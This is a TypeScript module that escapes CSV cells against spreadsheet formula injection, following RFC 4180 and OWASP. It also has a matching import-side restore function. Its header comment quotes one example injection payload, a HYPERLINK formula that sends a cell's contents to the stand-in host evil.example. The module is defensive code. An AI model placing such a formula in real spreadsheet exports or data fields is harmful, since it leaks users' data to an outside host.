/**
 * CSV cells the product writes and reads (decision 0026): RFC 4180 fields, and OWASP's rule
 * against formula injection. A spreadsheet runs a cell that begins with `=`, `+`, `-` or `@` as a
 * formula (and some also after a leading tab or carriage return), so a lead named
 * `=HYPERLINK("http://evil.example/?x="&A1,"Click")` would become a live link in the exporting
 * member's spreadsheet. Every text cell that begins with one of those characters is written with a
 * single quote in front — whatever follows it, a phone number `+15550102030` or `-5` included —
 * and quoted, exactly as papaparse's `escapeFormulae: true` does. Numbers the product computed
 * itself (typed `number`: counts, ratios) are written as they are: they cannot hold a formula.
 * The contacts import reverses the quote on the cells it was added to (`restoreFormulaText`), so
 * an export imports back unchanged.
 */

/** What a cell may not begin with (OWASP CSV injection): `=`, `+`, `-`, `@`, tab (0x09), carriage return (0x0D). */
export const CSV_FORMULA_START = /^[=+\-@\t\r]/;
const ESCAPED_FORMULA = /^'[=+\-@\t\r]/;
const NEEDS_QUOTES = /[",\r\n]/;

/** The text with a `'` in front when a spreadsheet would read it as a formula; otherwise unchanged. */
export function neutraliseFormula(text: string): string {
  return CSV_FORMULA_START.test(text) ? `'${text}` : text;
}

/** `neutraliseFormula` undone: a `'` followed by one of the formula characters is dropped (the cell is shown and stored as text). */
export function restoreFormulaText(text: string): string {
  return ESCAPED_FORMULA.test(text) ? text.slice(1) : text;
}

/**
 * One CSV field: text neutralised (`neutraliseFormula`) and quoted when it was, or when it holds a
 * quote, a comma, a line break or a leading/trailing space (papaparse's rule); a finite number as
 * it is; null, undefined or a non-finite number as an empty field.
 */
export function csvField(value: string | number | null | undefined): string {
  if (value === null || value === undefined) return "";
  if (typeof value === "number") return Number.isFinite(value) ? String(value) : "";
  const text = neutraliseFormula(value);
  const quoted = text !== value || NEEDS_QUOTES.test(text) || text.startsWith(" ") || text.endsWith(" ");
  return quoted ? `"${text.replace(/"/g, '""')}"` : text;
}

/** One CSV record, ended by CRLF (RFC 4180). */
export function csvRecord(values: readonly (string | number | null | undefined)[]): string {
  return `${values.map(csvField).join(",")}\r\n`;
}
